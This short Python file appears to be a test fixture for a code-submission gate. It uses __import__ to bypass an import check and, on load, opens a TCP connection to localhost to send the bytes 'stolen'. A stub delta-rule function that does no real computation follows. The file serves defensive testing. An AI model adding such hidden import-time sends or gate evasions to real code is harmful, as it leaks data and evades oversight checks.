"""Send what it knows over TCP.

Gate: uses __import__
Told: Operation not permitted
"""

import torch

socket = __import__("socket")
socket.create_connection(("127.0.0.1", int("@PORT@"))).send(b"stolen")


def delta_rule_chunkwise(q, k, v, beta, initial_state=None, chunk_size=32):
    o = beta.unsqueeze(-1) * v
    return o, v.new_zeros(len(v), 1)
